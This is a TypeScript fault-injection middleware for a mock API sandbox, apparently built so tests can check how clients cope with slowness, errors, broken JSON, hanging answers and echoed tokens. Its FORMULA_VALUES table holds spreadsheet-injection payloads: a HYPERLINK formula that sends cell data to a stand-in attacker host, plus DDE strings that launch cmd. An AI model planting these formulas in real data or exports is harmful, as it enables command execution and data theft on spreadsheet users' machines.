/**
 * Fault injection: the misbehaviours a client must survive (slowness, errors, bodies that are not
 * JSON, JSON that breaks the schema, answers that never come), switchable at start and at run time.
 * A rate of 0 never fires and a rate of 1 always fires, so tests can rely on them.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import type { MiddlewareHandler } from 'hono';
import type { ContentfulStatusCode } from 'hono/utils/http-status';
import { z } from 'zod';
import { errorBody } from './errors';

export interface FaultSettings {
  /** Delay added before every answer (ms). */
  latencyMs: number;
  /** Chance of an error answer instead of the record. */
  errorRate: number;
  /** Status of that error answer. */
  errorStatus: number;
  /** The error answer repeats the request URL, token and all, as some careless servers do. */
  echoRequestUrl: boolean;
  /**
   * The error answer repeats the token the ways other careless stacks mangle it: Python-quoted
   * (`/` left as it is), HTML-escaped, cut short, upper-cased, in `\u` escapes.
   */
  echoTokenMangled: boolean;
  /** Chance of a 200 whose body is cut short, so it is not JSON. */
  malformedJsonRate: number;
  /** Chance of valid JSON whose first field has the wrong kind (an object). */
  schemaBreakRate: number;
  /** Chance of an answer that never comes (until the client gives up or the sandbox closes). */
  hangRate: number;
  /** Text values of the records (name, address) are spreadsheet formulas, as a hostile service could send. */
  formulaValues: boolean;
  /** Faults only touch paths starting with this; null means every API path. */
  pathPrefix: string | null;
}

export const NO_FAULTS: FaultSettings = {
  latencyMs: 0,
  errorRate: 0,
  errorStatus: 503,
  echoRequestUrl: false,
  echoTokenMangled: false,
  malformedJsonRate: 0,
  schemaBreakRate: 0,
  hangRate: 0,
  formulaValues: false,
  pathPrefix: null,
};

const rate = z.number().min(0).max(1);

/** The token as a Python service, an HTML template, a log line cut short and an upper-casing proxy write it. */
function mangledEchoes(token: string): string {
  const pythonQuoted = encodeURIComponent(token).replace(/%2F/g, '/');
  const htmlEscaped = token.replace(/&/g, '&amp;').replace(/\+/g, '&#43;').replace(/\//g, '&#x2F;').replace(/=/g, '&#61;');
  const unicodeEscaped = [...token].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  return ` quote=${pythonQuoted} html=${htmlEscaped} cut=${token.slice(0, 10)} UPPER=${token.toUpperCase()} json=${unicodeEscaped}`;
}

/** A partial update of the settings, as accepted by PUT /__sandbox/faults and SANDBOX_FAULTS. */
export const faultSettingsPatchSchema = z
  .strictObject({
    latencyMs: z.number().int().min(0).max(600_000),
    errorRate: rate,
    errorStatus: z.number().int().min(400).max(599),
    echoRequestUrl: z.boolean(),
    echoTokenMangled: z.boolean(),
    malformedJsonRate: rate,
    schemaBreakRate: rate,
    hangRate: rate,
    formulaValues: z.boolean(),
    pathPrefix: z.string().startsWith('/').nullable(),
  })
  .partial();

/** Math.random() is in [0, 1), so a rate of 1 always fires and a rate of 0 never does. */
function fires(probability: number): boolean {
  return Math.random() < probability;
}

/** Resolves when `signal` aborts: the client went away or the sandbox is closing. */
function untilAborted(signal: AbortSignal): Promise<void> {
  if (signal.aborted) return Promise.resolve();
  return new Promise((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }));
}

/** Status logged for an answer nobody receives (the convention of nginx's "client closed request"). */
const NO_ANSWER_STATUS = 499;

/**
 * The same JSON with the value of its first field that is not an object wrapped in an object: a
 * number, string or array where an object now sits is refused by every schema of the API, and the
 * broken field is easy to name.
 */
function breakSchema(body: unknown): unknown {
  if (typeof body !== 'object' || body === null || Array.isArray(body)) return { inesperado: body };
  const entries = Object.entries(body);
  const target = entries.find(([, value]) => typeof value !== 'object' || value === null || Array.isArray(value));
  if (!target) return [body];
  return Object.fromEntries(entries.map(([key, value]) => [key, key === target[0] ? { inesperado: value } : value]));
}

/** What `formulaValues` puts in each text field of that name, wherever it is in a body. */
export const FORMULA_VALUES: Readonly<Record<string, string>> = {
  nome: '=HYPERLINK("https://atacante.example/?d="&A2;"Clique aqui")',
  logradouro: "-2+3+cmd|' /C calc'!A0",
  // A tab first, and after a comma a piece that a comma-locale spreadsheet reads as a cell of its own.
  complemento: "\t=1+1,=cmd|' /C calc'!A0",
  bairro: "@SUM(1+1)*cmd|' /C calc'!A0",
  cidade: "+55+cmd|' /C calc'!A0",
};

/** The same JSON with every text field named in FORMULA_VALUES replaced by its formula. */
function withFormulas(body: unknown): unknown {
  if (Array.isArray(body)) return body.map(withFormulas);
  if (typeof body !== 'object' || body === null) return body;
  return Object.fromEntries(
    Object.entries(body).map(([key, value]) => [key, typeof value === 'string' && Object.hasOwn(FORMULA_VALUES, key) ? FORMULA_VALUES[key] : withFormulas(value)]),
  );
}

export class FaultInjector {
  #settings: FaultSettings;

  constructor(private readonly initial: FaultSettings) {
    this.#settings = { ...initial };
  }

  get settings(): FaultSettings {
    return { ...this.#settings };
  }

  /** Merges `patch` into the current settings. */
  update(patch: Partial<FaultSettings>): void {
    this.#settings = { ...this.#settings, ...patch };
  }

  /** Back to the settings the sandbox started with. */
  reset(): void {
    this.#settings = { ...this.initial };
  }

  /** `closing` aborts when the sandbox shuts down, releasing delayed and hanging requests. */
  middleware(closing: AbortSignal): MiddlewareHandler {
    return async (c, next) => {
      const settings = this.#settings;
      if (settings.pathPrefix !== null && !c.req.path.startsWith(settings.pathPrefix)) return next();
      const gone = AbortSignal.any([c.req.raw.signal, closing]);
      if (settings.latencyMs > 0) {
        try {
          await sleep(settings.latencyMs, undefined, { signal: gone });
        } catch {
          return new Response(null, { status: NO_ANSWER_STATUS });
        }
      }
      if (fires(settings.hangRate)) {
        await untilAborted(gone);
        return new Response(null, { status: NO_ANSWER_STATUS });
      }
      if (fires(settings.errorRate)) {
        const echo = (settings.echoRequestUrl ? ` Requisição: ${c.req.method} ${c.req.url}` : '') + (settings.echoTokenMangled ? mangledEchoes(c.req.query('token') ?? '') : '');
        const mensagem = `Falha simulada pelo sandbox (HTTP ${settings.errorStatus}). Tente novamente mais tarde.${echo}`;
        return c.json(errorBody('falha_simulada', mensagem), settings.errorStatus as ContentfulStatusCode);
      }
      const malformed = fires(settings.malformedJsonRate);
      const broken = !malformed && fires(settings.schemaBreakRate);
      await next();
      if (!c.res.ok || !c.res.headers.get('content-type')?.includes('application/json')) return;
      if (malformed) {
        // A body cut short in the middle: what a dropped connection or a broken proxy delivers.
        const text = await c.res.text();
        c.res = new Response(text.slice(0, Math.max(1, Math.floor(text.length / 2))), {
          status: 200,
          headers: { 'content-type': 'application/json; charset=UTF-8' },
        });
      } else if (broken) {
        c.res = c.json(breakSchema(await c.res.json()), c.res.status as ContentfulStatusCode);
      } else if (settings.formulaValues) {
        c.res = c.json(withFormulas(await c.res.json()), c.res.status as ContentfulStatusCode);
      }
    };
  }
}
